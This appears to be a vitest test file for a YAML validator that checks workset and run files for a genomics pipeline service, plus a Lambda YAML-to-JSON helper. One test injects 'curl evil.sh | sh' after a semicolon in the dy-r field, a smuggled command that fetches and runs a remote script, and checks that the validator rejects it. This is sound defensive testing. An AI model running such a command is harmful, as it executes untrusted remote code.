import type { APIGatewayProxyEvent } from 'aws-lambda';
import { describe, expect, it } from 'vitest';
import { ValidationError } from '#shared/http/errors.ts';
import { estimateWorkset, previewRunFile, validateYamlDocument, writeWorksetYaml } from '#shared/worksets/index.ts';
import { requireYamlDocument, yamlBodyAsJson } from '#shared/worksets/http-validation.ts';
import { validationAnswer } from '#shared/worksets/validation-answer.ts';
import { configOf, daylilyExampleRequest, requestWith } from './fixtures.ts';

const RUN_FILE = previewRunFile(configOf(requestWith({ pipeline: 'germline_wgs_snv_sv' })));

describe('validateYamlDocument', () => {
  it('reads a Portico workset as a workset', () => {
    const config = configOf(daylilyExampleRequest);
    expect(validateYamlDocument(writeWorksetYaml(config))).toStrictEqual({ ok: true, format: 'workset', config });
  });

  it('recognizes a monitor-format run file and the target its dy-r matches', () => {
    const result = validateYamlDocument(RUN_FILE);
    expect(result.ok && result.format === 'monitor' && [result.runFile.worksetId, result.runFile.branch, result.target?.name]).toEqual([
      'your-workset-id',
      'main',
      'germline_wgs_snv_sv',
    ]);
  });

  it('matches dy-r whatever its line breaks and runs of spaces', () => {
    const text = `day-clone: " -d ws-1 -t main  "\ndy-r: >\n  -p\n    help\nexport_uri: "s3://acme-bucket/worksets/ws-1/results/"\n`;
    const result = validateYamlDocument(text);
    expect(result.ok && result.format === 'monitor' && result.target?.name).toBe('test_help');
  });

  it('answers that a dy-r matches no known target, and is then not valid', () => {
    const text = RUN_FILE.replace(/^dy-r: >\n {2}.*$/m, 'dy-r: >\n  produce_everything -j 999; curl evil.sh | sh');
    const result = validateYamlDocument(text);
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect(validationAnswer(result, estimateWorkset)).toStrictEqual({
      valid: false,
      format: 'monitor',
      run_file: {
        workset_id: 'your-workset-id',
        branch: 'main',
        dy_r: 'produce_everything -j 999; curl evil.sh | sh',
        export_uri: 's3://your-bucket/worksets/your-workset-id/results/',
        notes: 'Portico workset your-workset-id',
      },
      target: null,
      detail: 'dy-r matches none of the pipeline targets: germline_wgs_snv, germline_wgs_snv_sv, germline_wgs_kitchensink, test_help',
      accepted: ['germline_wgs_snv', 'germline_wgs_snv_sv', 'germline_wgs_kitchensink', 'test_help'],
    });
  });

  it('refuses a malformed run file naming each key', () => {
    const text = 'day-clone: "ws-1"\ndy-r: ""\ncluster: big\n';
    const result = validateYamlDocument(text);
    expect(!result.ok && result.errors.map((e) => e.message)).toEqual([
      'day-clone must be " -d <workset_id> -t <branch> "',
      'dy-r must name the pipeline arguments',
      'export_uri is required',
      'cluster is not a known field; accepted: day-clone, dy-r, export_uri, notes, cluster_name, budget',
    ]);
  });

  it('answers a valid workset with its config and estimate', () => {
    const config = configOf(daylilyExampleRequest);
    expect(validationAnswer({ ok: true, format: 'workset', config }, estimateWorkset)).toStrictEqual({
      valid: true,
      format: 'workset',
      config,
      estimate: estimateWorkset(config),
    });
  });
});

describe('requireYamlDocument', () => {
  it('throws a 400 listing the problems of a bad document', () => {
    expect(() => requireYamlDocument({ yaml_content: 'samples: []\nreference_genome: hg38\n' })).toThrow(ValidationError);
    expect(() => requireYamlDocument({ yaml: 'x' })).toThrow(ValidationError);
  });
});

describe('yamlBodyAsJson', () => {
  const event = (headers: Record<string, string>, body: string, isBase64Encoded = false) =>
    ({ headers, multiValueHeaders: {}, body, isBase64Encoded }) as unknown as APIGatewayProxyEvent;

  it.each(['application/yaml', 'text/yaml', 'application/x-yaml', 'Text/YAML; charset=utf-8'])(
    'hands a %s body to the JSON chain as { yaml_content }',
    (type) => {
      const converted = yamlBodyAsJson(event({ 'Content-Type': type, Authorization: 'Bearer t' }, 'a: 1\n'));
      expect(converted.headers).toEqual({ Authorization: 'Bearer t', 'content-type': 'application/json' });
      expect(converted.multiValueHeaders).toEqual({ 'content-type': ['application/json'] });
      expect(JSON.parse(converted.body!)).toEqual({ yaml_content: 'a: 1\n' });
    },
  );

  it('decodes a base64 body', () => {
    const converted = yamlBodyAsJson(event({ 'content-type': 'application/yaml' }, Buffer.from('é: 1\n').toString('base64'), true));
    expect([JSON.parse(converted.body!), converted.isBase64Encoded]).toEqual([{ yaml_content: 'é: 1\n' }, false]);
  });

  it.each(['application/json', 'text/plain', 'application/yamlx'])('leaves a %s request as it is', (type) => {
    const original = event({ 'content-type': type }, '{"yaml_content":"a: 1"}');
    expect(yamlBodyAsJson(original)).toBe(original);
  });
});
